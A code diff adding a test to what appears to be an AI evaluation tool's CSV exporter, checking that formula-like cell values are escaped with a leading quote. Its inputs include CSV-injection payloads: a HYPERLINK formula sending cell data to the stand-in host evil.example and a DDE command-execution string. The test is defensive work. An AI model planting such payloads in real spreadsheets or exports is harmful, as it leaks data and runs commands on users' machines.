@@ -13,6 +13,29 @@ describe('CSV', () => {
   });
 });
 
+test.each([
+  ['=HYPERLINK("http://evil.example/?"&A1)', `"'=HYPERLINK(""http://evil.example/?""&A1)"`],
+  ['+1+cmd|" /C calc"!A0', `"'+1+cmd|"" /C calc""!A0"`],
+  ['- a list', `'- a list`],
+  ['-1+1', `'-1+1`],
+  ['@SUM(A1)', `'@SUM(A1)`],
+  ['\t=1', `'\t=1`],
+  ['\r=1', `"'\r=1"`],
+  ['＝1+1', `'＝1+1`],
+  ['a = b', 'a = b'],
+  ["'quoted'", "'quoted'"],
+  ['-1', '-1'],
+  ['+2.5e-3', '+2.5e-3'],
+  ['-.5', '-.5'],
+  ['-', `'-`],
+  ['', ''],
+])('what a spreadsheet would take for a formula is text, and numbers are numbers: %j', (text, cell) => {
+  const scores = [{ scorer: 'match', value: text, number: 1, answer: '', explanation: '', error: '' }];
+  const texts = { completion: text, reasoning: text, sampleId: text, errorMessage: text };
+  const row = csvRow(result(1, { ...texts, scores, modelMs: -12.5 }), ['match']);
+  expect(row).toBe(`1,b,m,${cell},1,scored,${cell},${cell},${cell},,${cell},10,20,0,stop,-12.5,13,ag_0000000000000001\r\n`);
+});
+
 test('a scorer that a benchmark has twice has two columns', () => {
   expect(
     scoreColumns([
